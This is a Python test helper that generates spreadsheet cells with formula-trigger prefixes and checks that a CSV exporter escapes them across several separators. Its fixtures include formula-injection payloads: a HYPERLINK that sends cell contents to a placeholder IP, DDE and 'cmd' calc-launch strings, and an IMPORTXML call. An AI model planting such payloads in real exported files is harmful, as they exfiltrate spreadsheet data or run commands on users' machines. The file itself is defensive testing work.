"""Words with which a spreadsheet would reckon, in the tables that we write."""

from __future__ import annotations

import csv
import io
import random

import msgspec

from heliograph.exchange.tables.inert import as_csv

BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")  # noqa: RUF001 - full width
_FORMULAS = (
    *("1+1", 'HYPERLINK("http://203.0.113.7/?"&A1,"press")', "cmd|' /C calc'!A0"),
    *("IMPORTXML(CONCAT(A1),B1)", 'DDE("cmd","/C calc","x")', "SUM(A:A)"),
)


class Found(msgspec.Struct, kw_only=True):
    """How many cells were written, and which of them are live or changed."""

    cells: int = 0
    wrong: list[str] = msgspec.field(default_factory=list[str])


def obey(count: int, *, seed: int = 0) -> Found:
    """Write so many cells, and read the table with each separator as a spreadsheet does."""
    chance = random.Random(seed)  # noqa: S311 - repeatable on purpose
    found = Found()
    for separator in (",", ";", "\t"):
        rows = [[_cell(chance) for _ in range(5)] for _ in range(max(1, count // 15))]
        told = as_csv(rows, separator=separator).decode("utf-8-sig")
        read = list(csv.reader(io.StringIO(told, newline=""), delimiter=separator))
        for row, shown in zip(rows, read, strict=True):
            for cell, after in zip(row, shown, strict=True):
                found.cells += 1
                if after.startswith(BEGINNINGS):
                    found.wrong.append(f"live: {after!r}")
                if after.removeprefix("'") != cell:
                    found.wrong.append(f"changed: {cell!r} to {after!r}")
    return found


def _cell(chance: random.Random) -> str:
    formula = chance.choice(_FORMULAS)
    quoted = chance.choice(("", '"', "a,b;c\td", "\n"))
    return f"{chance.choice(BEGINNINGS)}{formula}{quoted}"
